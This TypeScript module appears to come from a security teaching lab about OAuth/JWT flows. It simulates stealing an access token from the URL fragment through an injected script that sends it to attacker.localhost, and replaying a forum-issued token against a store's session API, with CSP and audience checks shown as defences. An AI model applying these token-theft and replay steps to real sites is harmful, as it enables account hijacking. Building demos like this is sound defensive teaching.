import { setCookieName } from '../trace/cookies.js';
import { isExchange } from '../trace/types.js';
import { notReady } from './stolen-cookies.js';
import { replayAsAttacker } from './replay.js';
import type { Attack, AttackDeps, AttackOutcome, AttackReadiness } from './types.js';

/**
 * With a JWT in hand, the attacker opens a session at the store's start-session API and reads the cart
 * with the session cookie it is given. Both requests are real HTTP, as the attacker.
 */
async function sessionFromToken(deps: AttackDeps, token: string, attack: string) {
  const { session } = deps.store.cookieNames;
  const start = await replayAsAttacker(deps.bus, `${deps.store.ctx.urls.store}/api/session`, {}, { method: 'POST', json: { token }, attack });
  const cookie = start.setCookies.find((line) => setCookieName(line) === session)?.split(';')[0]?.slice(session.length + 1);
  if (start.status !== 200 || !cookie) return { start, cart: undefined };
  deps.loot.push({ time: deps.now(), kind: 'session cookie (minted for the attacker)', value: cookie });
  const cart = await replayAsAttacker(deps.bus, `${deps.store.ctx.urls.store}/api/cart`, { [session]: cookie }, { attack });
  if (cart.status === 200) deps.loot.push({ time: deps.now(), kind: 'cart', value: cart.body });
  return { start, cart };
}

function errorMessage(body: string): string {
  try {
    return (JSON.parse(body) as { error?: { message?: string } }).error?.message ?? body;
  } catch {
    return body;
  }
}

const LEAKED = 'access token (from the URL fragment)';

/**
 * Under the strict CSP: the browser loaded the compromised script and then opened a store session from the URL
 * fragment, yet nothing reached attacker.localhost. That is the CSP at work (the browser refused the request).
 */
function blockedByCsp(deps: AttackDeps): AttackOutcome | undefined {
  const loaded = deps.bus.list().filter(isExchange).filter((e) => e.actor === 'browser' && e.origin === 'store' && e.path === '/vendor/analytics.js' && e.status === 200);
  const since = loaded[0]?.time;
  if (since === undefined) return undefined;
  const started = deps.store.sessions.rows().some((r) => r.data.origin === 'start-session' && r.createdAt >= since);
  if (!started) return undefined;
  return {
    succeeded: false,
    kind: 'refused',
    status: 0,
    outcome: 'Refused by the strict content security policy: the store page ran the compromised script and the user logged in, but the browser refused to send the URL fragment to attacker.localhost (not in img-src), so the attacker has no token.',
    events: loaded.map((e) => e.id),
  };
}

/**
 * "Script reads the token": a compromised script include leaks `location.hash` to attacker.localhost while the SPA
 * holds the JWT. First run arms the script; once a token has leaked, a run uses it to get a session and the cart.
 */
export function fragmentTheft(deps: AttackDeps): Attack {
  const leaked = () => [...deps.loot].reverse().find((l) => l.kind === LEAKED);
  const readiness = (): AttackReadiness => {
    const needs = 'A token leaked from the URL: arm the injected script, then the user logs in with FusionAuth on the store.';
    if (leaked()) return { needs };
    if (!deps.switches.injectedScript) return { needs, missing: 'The injected script is not armed yet: the first run arms it.' };
    if (deps.defences.isOn('strict-csp')) {
      return { needs, missing: 'Armed, but the strict content security policy is on: the browser refuses the script’s request to attacker.localhost, so no token can leak (log in with FusionAuth on the store to see it).', fix: 'log-in-store' };
    }
    return { needs, missing: 'Armed, but no token has leaked yet: the user must log in with FusionAuth on the store.', fix: 'log-in-store' };
  };
  return {
    id: 'fragment-theft',
    title: 'Script reads the token from the URL',
    readiness,
    async run(): Promise<AttackOutcome> {
      const token = leaked();
      if (!token) {
        const blocked = deps.switches.injectedScript && deps.defences.isOn('strict-csp') ? blockedByCsp(deps) : undefined;
        if (blocked) return blocked;
        if (deps.switches.injectedScript) return notReady(readiness());
        deps.switches.injectedScript = true;
        return {
          succeeded: false,
          kind: 'armed',
          status: 202,
          outcome: 'Armed: a script on the store and forum pages now sends the URL fragment to attacker.localhost. Log in with FusionAuth, then run this attack again.',
          events: [],
        };
      }
      const { start, cart } = await sessionFromToken(deps, token.value, 'fragment-theft');
      const events = [...start.events, ...(cart?.events ?? [])].map((e) => e.id);
      if (!cart || cart.status !== 200) {
        return { succeeded: false, kind: 'refused', status: start.status, outcome: `The store refused the stolen JWT: ${errorMessage(start.body)}`, events };
      }
      return { succeeded: true, kind: 'worked', status: 200, outcome: 'The attacker started a session with the stolen JWT and got the cart.', events };
    },
  };
}

/** "Token injection": a JWT minted for the forum, posted to the store's start-session API. `aud` must stop it. */
export function tokenInjection(deps: AttackDeps): Attack {
  const forumToken = () =>
    deps.forum.sessions
      .rows()
      .find((row) => row.endedAt === null && row.data.jwt)?.data.jwt;
  const readiness = (): AttackReadiness => {
    const needs = 'A token the identity server issued for the forum: the user must be logged in to the forum.';
    return forumToken() ? { needs } : { needs, missing: 'There is no live forum session, so no forum token to steal.', fix: 'log-in-forum' };
  };
  return {
    id: 'token-injection',
    title: 'Forum token injected into the store',
    readiness,
    async run(): Promise<AttackOutcome> {
      const token = forumToken();
      if (!token) return notReady(readiness());
      deps.loot.push({ time: deps.now(), kind: 'forum access token', value: token, from: new URL(deps.forum.ctx.urls.forum).hostname });
      const { start, cart } = await sessionFromToken(deps, token, 'token-injection');
      const events = [...start.events, ...(cart?.events ?? [])].map((e) => e.id);
      if (!cart || cart.status !== 200) {
        return { succeeded: false, kind: 'refused', status: start.status, outcome: `Refused by the audience check: ${errorMessage(start.body)}`, events };
      }
      return { succeeded: true, kind: 'worked', status: 200, outcome: 'The store accepted a token meant for the forum: the attacker got the cart. Turn the audience check back on.', events };
    },
  };
}
